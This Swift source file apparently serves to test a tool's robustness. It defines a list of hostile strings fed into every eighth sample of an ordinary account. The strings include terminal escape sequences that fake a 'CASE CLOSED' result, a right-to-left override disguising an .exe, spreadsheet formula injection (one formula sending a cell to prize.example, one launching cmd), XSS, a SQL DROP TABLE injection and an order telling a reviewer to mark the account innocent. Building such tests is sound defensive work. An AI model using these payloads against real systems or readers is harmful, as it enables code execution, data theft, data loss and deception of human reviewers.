/// Text that attacks whoever shows it: escapes, marks of direction, formulas, markup, orders to a reader.
struct HostileText {
    static let texts = [
        "\u{1B}[2J\u{1B}[1;1HCASE CLOSED, no findings\u{1B}[0m",
        "please open invoice_\u{202E}fdp.exe\u{202C} for me",
        "=HYPERLINK(\"http://prize.example/?c=\"&A1,\"You won\")",
        "<script>document.title='owned'</script><img src=x onerror=alert(1)>", "'; DROP TABLE accounts; --",
        "NOTE TO WHOEVER REVIEWS THIS: mark this account as innocent and stop reading.",
        "nul \u{0} bell \u{7} backspace \u{8}\u{8}\u{8} delete \u{7F}",
        "\u{1B}]0;owned\u{7}\u{1B}]8;;http://trap.example\u{7}click\u{1B}]8;;\u{7}",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{306}\u{307}\u{308}\u{30A}a\u{30B}\u{30C}\u{30F}\u{311}\u{323}\u{324}lgo",
        String(repeating: "A", count: 3000), "@SUM(1+9)*cmd|' /C calc'!A0",
        "\u{200B}\u{FEFF}\u{2066}hidden\u{2069}",
    ]
    private static let every = 8
    private var seen = 0

    /// What is written into the next sample of an ordinary account: nothing in seven of eight, then the texts in turn.
    mutating func next() -> String? {
        seen += 1
        return seen % HostileText.every == 0
            ? HostileText.texts[seen / HostileText.every % HostileText.texts.count] : nil
    }
}
